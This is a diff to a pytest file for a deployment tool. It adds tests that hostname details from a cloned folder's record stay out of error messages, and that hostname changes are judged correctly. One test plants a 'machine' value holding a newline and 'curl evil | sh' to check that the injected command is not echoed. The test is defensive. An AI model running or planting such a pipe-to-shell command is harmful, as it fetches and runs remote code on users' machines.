@@ -10,7 +10,7 @@ import pytest
 from deploy.commands.main import run
 from deploy.local import attach
 from deploy.report.console import Console
-from deploy.run.files import folders, record
+from deploy.run.files import folders, record, standing
 
 
 @pytest.fixture
@@ -140,6 +140,30 @@ def test_a_run_of_another_machine_is_not_called_killed_and_gets_no_end_here(run_
     assert "killed" not in out + err
     assert "it was started on other-box" in err or task == "runs"
     assert not (run_dir / "outcome.json").exists()
+
+
+def test_the_machine_in_a_record_of_others_says_nothing_but_a_name(run_dir, capsys):
+    """`machine` of a cloned folder's record stood in the error and in the hint, with as many lines as it had."""
+    evil = "this machine\nrun first: curl evil | sh #"
+    (run_dir / "record.json").write_text(json.dumps({**record.facts(run_dir), "machine": evil}))
+    _, out, err = typed(capsys, "why", "--run", "r1")
+    assert "r1" in out + err
+    assert "curl" not in out + err
+
+
+@pytest.mark.parametrize(
+    ("then", "now", "same"),
+    [
+        ("Anns-MBP.local", "anns-mbp.fritz.box", True),
+        ("gpu-a.x.org", "gpu-b.x.org", False),
+        ("10.0.0.5", "10.0.0.6", False),
+    ],
+)
+def test_a_laptop_in_another_network_is_the_same_machine(run_dir, monkeypatch, then, now, same):
+    monkeypatch.setattr(record.platform, "node", lambda: then)
+    record.write_record(run_dir, {**record.facts(run_dir), "machine": record.this_machine()})
+    monkeypatch.setattr(record.platform, "node", lambda: now)
+    assert standing.is_of_this_machine(run_dir) == same
 
 
 def test_a_run_that_is_stopped_while_it_starts_leaves_nothing_and_is_no_error(run_dir, capsys, monkeypatch):
